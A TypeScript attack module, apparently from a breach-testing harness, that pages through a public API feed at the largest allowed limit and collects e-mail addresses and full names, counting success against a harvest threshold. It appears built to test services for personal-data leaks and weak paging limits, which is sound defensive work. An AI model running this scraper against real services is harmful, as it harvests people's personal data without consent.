/** A stranger walks the feed in the largest steps it allows, and keeps everybody who comes by. */

import type { Attack } from '../breach.ts'
import { type Answer, call } from '../client.ts'
import { listAt, textAt, textsIn } from '../json.ts'

const steps = [100_000, 10_000, 1_000, 500, 200, 100, 50, 20]
const mostRequests = 100

export const attack: Attack = async ({ url, witness }) => {
  const names = new Set(witness['fullNames']?.split('\n'))
  const domain = `@${witness['mailDomain']}`
  const mails = new Set<string>()
  const known = new Set<string>()
  const stories = new Set<string>()
  let requests = 0
  const read = (limit: number, before?: string): Promise<Answer> => {
    requests += 1
    return call(url, 'GET', `/api/v5/public?limit=${limit}${before === undefined ? '' : `&before=${before}`}`)
  }

  let page: Answer | undefined
  let limit = 0
  for (const step of steps) {
    limit = step
    page = await read(limit)
    if (page.status === 200) break
  }
  let stop = page?.status === 200 ? '' : `the first page was answered ${page?.status}`
  while (page?.status === 200) {
    for (const story of listAt(page.body, 'data')) stories.add(textAt(story, 'id') ?? '')
    for (const text of textsIn(page.body)) {
      if (text.endsWith(domain)) mails.add(text)
      if (names.has(text)) known.add(text)
    }
    const before = textAt(page.body, 'paging', 'before')
    if (before === undefined || requests >= mostRequests) break
    page = await read(limit, before)
    if (page.status !== 200) stop = `page ${requests} was answered ${page.status}`
  }

  const people = Math.max(mails.size, known.size)
  const effect =
    `${requests} requests with limit=${limit} gave ${stories.size} stories, ` +
    `${mails.size} e-mail addresses and ${known.size} full names${stop === '' ? '' : `; ${stop}`}.`
  return { succeeded: people >= Number(witness['harvest'] ?? Number.POSITIVE_INFINITY), effect }
}
